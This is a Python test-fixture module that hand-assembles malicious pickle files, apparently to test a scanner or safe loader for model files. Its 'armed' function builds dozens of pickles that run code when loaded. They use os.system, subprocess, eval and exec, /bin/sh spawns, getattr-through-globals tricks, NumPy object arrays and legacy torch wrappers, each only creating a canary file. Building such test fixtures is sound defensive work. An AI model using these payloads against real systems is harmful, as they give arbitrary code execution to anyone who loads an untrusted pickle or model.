"""Pickles that run something when Python reads them, assembled by hand so that no library decides what is in them.

What hangs or exhausts a careless reader is in ``malice_bombs``, the files that all of it is put into in
``malice_files``.
"""

from __future__ import annotations

import pickle
import struct
from pathlib import Path

MAGIC = 0x1950A86A20F9469CFC6C
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
LIST, END, DICT, NONE, TRUE, FALSE, APPEND, POP = b"]", b"e", b"}", b"N", b"\x88", b"\x89", b"a", b"0"


def text(value: str) -> bytes:
    """A text, pushed."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    """Bytes, pushed."""
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    """An integer of up to 8 bytes, pushed."""
    return b"\x8a\x08" + struct.pack("<q", value)


def name(dotted: str) -> bytes:
    """A global, written "module name", pushed."""
    module, _, attribute = dotted.partition(" ")
    return f"c{module}\n{attribute}\n".encode()


def group(*items: bytes) -> bytes:
    """A tuple, pushed."""
    return b"(" + b"".join(items) + b"t"


def listed(*items: bytes) -> bytes:
    """A list, pushed."""
    return b"](" + b"".join(items) + b"e"


def call(function: bytes | str, *arguments: bytes) -> bytes:
    """What a call returns, pushed."""
    return (name(function) if isinstance(function, str) else function) + group(*arguments) + b"R"


def whole(body: bytes, protocol: int = 4) -> bytes:
    """The pickle of what a body pushes."""
    return b"\x80" + bytes([protocol]) + body + b"."


def legacy(content: bytes, *, storages: bytes = b"", keys: tuple[str, ...] = ()) -> bytes:
    """A file of torch before 1.6 around the pickle of its content."""
    head = b"".join(pickle.dumps(part, protocol=2) for part in (MAGIC, 1001, SYSTEM))
    return head + content + pickle.dumps(list(keys), protocol=2) + storages


def armed(canary: Path) -> dict[str, bytes]:
    """Pickles that make the file ``canary`` when Python's unpickler reads them where torch and NumPy are installed."""
    path, command = text(str(canary)), text(f"touch {canary}")
    words = listed(text("touch"), path)
    code = text(f"open({str(canary)!r}, 'w').close()")
    system = call("os system", command)
    inner = whole(system)
    module = call("importlib import_module", text("os"))
    namespace = name("argparse Namespace") + b")\x81"
    array = call("numpy.core.multiarray _reconstruct", name("numpy ndarray"), group(number(0)), raw(b"b"))
    objects = call("numpy dtype", text("O8"), FALSE, TRUE)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    npy = b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + inner
    getter = name("builtins getattr")
    globals_ = call(getter, call(getter, name("argparse Namespace"), text("__init__")), text("__globals__"))
    from_globals = call(call(getter, globals_, text("get")), text("_os"))
    bodies = {
        "os.system": system,
        "posix.system": call("posix system", command),
        "subprocess.Popen": call("subprocess call", words),
        "subprocess.check_output": call("subprocess check_output", words),
        "os.popen": call(call(getter, call("os popen", command), text("read"))),
        "builtins.eval": call("builtins eval", code),
        "builtins.exec": call("builtins exec", code),
        "builtins.open": call("builtins open", path, text("w")),
        "_io.open": call("_io open", path, text("w")),
        "codecs.open": call("codecs open", path, text("w")),
        "posix.open": call("posix open", path, number(0o101)),
        "builtins.__import__": call(call(getter, call("builtins __import__", text("os")), text("system")), command),
        "importlib.import_module": call(call(getter, module, text("system")), command),
        "operator.attrgetter": call(call(call("operator attrgetter", text("system")), module), command),
        "operator.attrgetter of a chain": call(
            call(
                call("operator attrgetter", text("_os.system")),
                call("importlib import_module", text("argparse")),
            ),
            command,
        ),
        "operator.methodcaller": call(call("operator methodcaller", text("system"), command), module),
        "functools.partial": call(call("functools partial", name("os system"), command)),
        "builtins.map": call("builtins list", call("builtins map", name("os system"), listed(command))),
        "runpy._run_code": call("runpy _run_code", code, DICT),
        "pty.spawn": call("pty spawn", words),
        "timeit.timeit": call("timeit timeit", code, text("pass"), name("time time"), number(1)),
        "shutil.copyfile": call("shutil copyfile", text("/dev/null"), path),
        "os.posix_spawn": call(
            "os waitpid",
            call("os posix_spawn", text("/bin/sh"), listed(text("sh"), text("-c"), command), DICT),
            number(0),
        ),
        "pickle.loads": call("pickle loads", raw(inner)),
        "_pickle.loads": call("_pickle loads", raw(inner)),
        "torch.storage._load_from_bytes": call("torch.storage _load_from_bytes", raw(legacy(inner))),
        "numpy.load": call("numpy load", call("_io BytesIO", raw(npy)), NONE, TRUE),
        "a name on the stack": text("os") + text("system") + b"\x93" + group(command) + b"R",
        "a name on the stack from the memo": (
            text("os") + b"\x940" + text("system") + b"\x940h\0h\1\x93" + group(command) + b"R"
        ),
        "the attribute of another module": text("argparse") + text("_os.system") + b"\x93" + group(command) + b"R",
        "torch's own os": text("torch.serialization") + text("os.system") + b"\x93" + group(command) + b"R",
        "INST": b"(" + command + b"ios\nsystem\n",
        "OBJ": b"(" + name("os system") + command + b"o",
        "a function from the memo": name("os system") + b"q\x050" + call(b"h\x05", command),
        "__setstate__ as an attribute": (
            namespace + DICT + text("__setstate__") + name("os system") + b"sb" + command + b"b"
        ),
        "a call in an object array": (
            array + group(number(1), group(number(1)), objects, FALSE, listed(system)) + b"b"
        ),
        "a call in a key": DICT + system + NONE + b"s",
        "a call in an argument of Namespace": namespace + DICT + text("a") + system + b"sb",
        "a call in a state dict": call("collections OrderedDict") + text("a") + system + b"s",
        "a call in a type": call("numpy dtype", text("f8"), FALSE, TRUE) + system + POP,
        "a call that is thrown away": b"(" + system + b"1N",
        "a default factory": (
            call("collections defaultdict", call("functools partial", name("os system"), command))
            + b"q\1"
            + call(call(getter, b"h\1", text("__getitem__")), number(1))
        ),
        "the globals of a method": call(call(getter, from_globals, text("system")), command),
    }
    old = {"__builtin__.eval": whole(call("__builtin__ eval", code), protocol=2)}  # renamed below protocol 3 alone
    return {label: whole(body) for label, body in bodies.items()} | old
